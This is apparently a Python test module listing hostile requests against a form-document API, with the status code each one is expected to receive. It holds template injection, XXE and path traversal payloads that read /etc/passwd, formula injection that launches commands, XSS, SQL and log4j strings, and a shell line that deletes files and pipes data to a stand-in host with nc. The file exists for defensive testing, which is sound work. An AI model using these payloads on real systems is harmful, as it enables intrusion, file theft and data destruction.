"""Requests that nobody sends who means well, each with the only answer that is right."""

import json
from dataclasses import dataclass, field
from typing import Any

from tests.api.support import AS_OF, sample
from tests.hostile import uploads

DOCUMENTS = f"/v1/forms/kz.plan/documents?as_of={AS_OF}"
JSON = {"Content-Type": "application/json"}


@dataclass(frozen=True)
class Hostile:
    """A request, and the status of its answer."""

    name: str
    status: int
    path: str = DOCUMENTS
    body: bytes = b""
    headers: dict[str, str] = field(default_factory=dict)
    method: str = "POST"


def _with_notes(text: str, **more: Any) -> bytes:
    return json.dumps(sample("kz.plan", "minimal") | {"notes": text} | more).encode()


# What is a text stays a text: these become documents.
TEXTS = {
    "jinja": "{{ 7 * 7 }}",
    "jinja class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "jinja config": "{{ config.items() }} {% include '/etc/passwd' %}",
    "jinja block": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "docxtpl paragraph": "{%p if true %}planted{%p endif %}",
    "docxtpl row": "{%tr for a in b %}",
    "docxtpl rich text": "{{r '<w:p/>' }}",
    "xml tag": "</w:t></w:r></w:p><w:p><w:r><w:t>planted",
    "xml comment": "<!-- --> ]]> <![CDATA[ ]]>",
    "xml entity": "&xxe; &lt; &#65; &amp;amp;",
    "doctype": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "formula": '=HYPERLINK("http://planted.example")',
    "formula plus": "+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "script": "<script>fetch('http://planted.example')</script>",
    "image": "<img src='http://planted.example/a.png' onerror=alert(1)>",
    "file image": "<img src='file:///etc/passwd'>",
    "style": "<style>@import url(http://planted.example)</style>",
    "style address": "<p style=\"background:url('http://planted.example')\">",
    "iframe": "<iframe src='file:///etc/passwd'></iframe>",
    "link": "<link rel=attachment href='file:///etc/passwd'>",
    "object": "<object data='file:///etc/passwd'></object>",
    "svg": "<svg><image href='file:///etc/passwd'/></svg>",
    "shell": "$(cat /etc/passwd) `id` ; rm -rf / | nc planted.example 1",
    "sql": "'; DROP TABLE families; --",
    "printf": "%s%s%s%n %(password)s {0.__class__}",
    "log4j": "${jndi:ldap://planted.example/a}",
    "path": "../../../../etc/passwd",
    "header": "planted\nSet-Cookie: planted=1",
}
CHARACTERS = {
    "marks": "Ж" + "\u0301" * 40,
    "escape": "\x1b[31m",
    "nul": "a\x00b",
    "right to left": "\u202egpj.exe",
    "half a pair": "\ud800",
    "not a character": "\uffff",
    "private": "\ue000",
    "backspace": "a\x08b",
}
BODIES: dict[str, tuple[int, bytes]] = {
    "nothing": (400, b""),
    "null": (422, b"null"),
    "a number": (422, b"1"),
    "a text": (422, b'"planted"'),
    "a list": (422, b"[]"),
    "a list of lists": (422, b"[[[[]]]]"),
    "an empty object": (422, b"{}"),
    "cut": (400, b'{"notes": "plan'),
    "more behind": (400, b"{} {}"),
    "single quotes": (400, b"{'notes': 'planted'}"),
    "comment": (400, b"{/* planted */}"),
    "comma": (400, b'{"notes": "a",}'),
    "nan": (400, b'{"notes": NaN}'),
    "infinity": (400, b'{"notes": -Infinity}'),
    "long number": (400, b'{"notes": ' + b"9" * 5_000 + b"}"),
    "large exponent": (422, b'{"notes": 1e999999}'),
    "twice": (400, b'{"notes": "a", "notes": "b"}'),
    "byte order mark": (422, b"\xef\xbb\xbf{}"),
    "utf-16": (400, "{}".encode("utf-16")),
    "latin": (400, '{"notes": "é"}'.encode("latin-1")),
    "overlong utf-8": (400, b'{"notes": "\xc0\xaf"}'),
    "deep lists": (400, b"[" * 100_000 + b"]" * 100_000),
    "deep objects": (400, b'{"a":' * 5_000 + b"1" + b"}" * 5_000),
    "prototype": (422, b'{"__proto__": {"admin": true}, "constructor": {}}'),
    "class": (422, b'{"__class__": "os.system", "py/object": "os.system"}'),
    "yaml": (400, b"!!python/object/apply:os.system ['id']"),
    "xml": (
        400,
        b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a/>",
    ),
    "many names": (422, json.dumps({f"name{at}": at for at in range(5_000)}).encode()),
    "many values": (413, b'{"actions": [' + b"0," * 60_000 + b"0]}"),
    "large": (413, b'{"notes": "' + b"a" * (5 * 1024 * 1024) + b'"}'),
    "long name": (400, b'{"' + b"a" * 1_000_000 + b'": 1}'),
}
ADDRESSES: dict[str, tuple[int, str]] = {
    "up": (404, "/v1/forms/../../etc/passwd"),
    "up encoded": (404, "/v1/forms/%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    "up twice encoded": (404, "/v1/forms/%252e%252e%252fetc%252fpasswd"),
    "up backslash": (404, "/v1/forms/..%5c..%5cwindows%5cwin.ini"),
    "sample up": (404, "/v1/forms/kz.plan/samples/..%2f..%2f..%2fpyproject"),
    "sample absolute": (404, "/v1/forms/kz.plan/samples/%2fetc%2fpasswd"),
    "nul": (404, "/v1/forms/kz.plan%00.json"),
    "new line": (404, "/v1/forms/kz.plan%0d%0aSet-Cookie:%20planted=1"),
    "template": (404, "/v1/forms/%7b%7b7*7%7d%7d"),
    "module": (404, "/v1/forms/kz._settings"),
    "package": (404, "/v1/forms/os"),
    "dunder": (404, "/v1/forms/__init__"),
    "edition in the id": (404, "/v1/forms/kz.plan__2024"),
    "long": (404, "/v1/forms/" + "a" * 3_000),
    "not utf-8": (404, "/v1/forms/%ff%fe"),
    "cyrillic": (404, "/v1/forms/kz.рlan"),
    "inner slashes": (404, "/v1//forms"),
    "slash behind": (404, "/v1/forms/"),
    "case": (404, "/V1/FORMS"),
    "docs up": (404, "/docs/..%2f..%2f..%2fetc%2fpasswd"),
    "docs hidden": (404, "/docs/.git/config"),
    "asset up": (404, "/web/..%2fviews.py"),
    "asset absolute": (404, "/web/%2fetc%2fpasswd"),
    "dot env": (404, "/.env"),
    "git": (404, "/.git/config"),
    "admin": (404, "/admin"),
    "console": (404, "/console"),
    "debugger": (200, "/?__debugger__=yes&cmd=resource&f=style.css"),
    "unknown version": (404, "/v2/forms"),
}
QUERIES: dict[str, tuple[int, str]] = {
    "format": (400, "format=exe"),
    "format up": (400, "format=../docx"),
    "format nul": (400, "format=docx%00"),
    "format twice": (400, "format=docx&format=pdf"),
    "mode": (400, "mode=blank"),
    "layout": (400, "layout={{7*7}}"),
    "layout nothing": (400, "layout="),
    "edition": (404, "edition=../../etc/passwd"),
    "edition nul": (404, "edition=%00"),
    "embed": (400, "embed=1"),
    "pdf": (400, "pdf=planted"),
    "as_of": (400, "as_of=today"),
    "as_of nul": (400, "as_of=2026-11-20%00"),
    "as_of year 0": (400, "as_of=0000-01-01"),
    "as_of far": (400, "as_of=99999-01-01"),
    "as_of day": (400, "as_of=2026-02-30"),
    "as_of digits": (400, "as_of=２０２６-11-20"),
    "unknown": (400, "strange=1"),
    "prototype": (400, "__proto__[admin]=1"),
    "array": (400, "format[]=docx"),
}
GOOD = _with_notes("слово")
HEADERS: dict[str, tuple[int, dict[str, str]]] = {
    "gzip": (415, {"Content-Encoding": "gzip"}),
    "two codings": (415, {"Content-Encoding": "gzip, gzip, gzip"}),
    "form": (415, {"Content-Type": "application/x-www-form-urlencoded"}),
    "xml": (415, {"Content-Type": "application/xml"}),
    "text": (415, {"Content-Type": "text/plain"}),
    "no type": (415, {"Content-Type": ""}),
    "utf-7": (415, {"Content-Type": "application/json; charset=utf-7"}),
    "template type": (415, {"Content-Type": "{{7*7}}"}),
    "accept of nothing": (406, {"Accept": "text/planted"}),
    "accept of everything": (200, {"Accept": "*/*"}),
    "long accept": (406, {"Accept": "a/b," * 2_000}),
    "method override": (200, {"X-HTTP-Method-Override": "DELETE"}),
    "forwarded host": (200, {"X-Forwarded-Host": "planted.example"}),
    "rewritten address": (200, {"X-Original-URL": "/metrics", "X-Rewrite-URL": "/metrics"}),
    "range": (200, {"Range": "bytes=0-0,1-1,2-2"}),
    "cookie": (200, {"Cookie": "formsvc-session=planted; __Host-formsvc-session=planted"}),
    "traceparent": (200, {"traceparent": "00-planted-planted-01"}),
    "language": (200, {"Accept-Language": "../../etc/passwd"}),
}
METHODS = ("GET", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "PROPFIND", "PLANTED")


def everything() -> list[Hostile]:
    """All of them."""
    return [
        *(Hostile(f"text: {name}", 200, body=_with_notes(text), headers=JSON)
          for name, text in TEXTS.items()),
        *(Hostile(f"character: {name}", 422, body=_with_notes(text), headers=JSON)
          for name, text in CHARACTERS.items()),
        *(Hostile(f"body: {name}", status, body=body, headers=JSON)
          for name, (status, body) in BODIES.items()),
        *(Hostile(f"address: {name}", status, path, method="GET")
          for name, (status, path) in ADDRESSES.items()),
        *(Hostile(f"query: {name}", status, f"/v1/forms/kz.plan/documents?{query}", GOOD, JSON)
          for name, (status, query) in QUERIES.items()),
        *(Hostile(f"header: {name}", status, body=GOOD, headers=JSON | headers)
          for name, (status, headers) in HEADERS.items()),
        *(Hostile(f"method: {method}", 405, method=method) for method in METHODS),
        *(Hostile(f"{path}: {name}", status, path, body, headers)
          for name, (path, status, body, headers) in uploads.UPLOADS.items()),
    ]  # fmt: skip
